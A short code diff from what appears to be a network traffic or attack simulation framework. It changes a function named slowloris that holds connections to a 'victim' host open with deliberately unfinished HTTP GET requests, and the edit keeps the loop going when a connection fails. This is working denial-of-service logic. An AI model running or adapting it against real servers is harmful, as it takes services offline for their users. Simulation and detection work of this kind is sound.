@@ -138,9 +138,10 @@ def slowloris(scene):
         with talk.Held(count) as held:
             for _ in talk.beats(scene, dice, rate):
                 if len(held.kept) < count:
-                    connection = held.keep(source, victim.address, port, dice)
-                    connection.sendall(requests.request(dice, "GET", f"/?{dice.randrange(2000)}",
-                                                        victim.address)[:-2])
+                    with contextlib.suppress(OSError):
+                        connection = held.keep(source, victim.address, port, dice)
+                        connection.sendall(requests.request(dice, "GET", f"/?{dice.randrange(2000)}",
+                                                            victim.address)[:-2])
                     continue
                 _, connection = dice.choice(held.kept)
                 with contextlib.suppress(OSError):
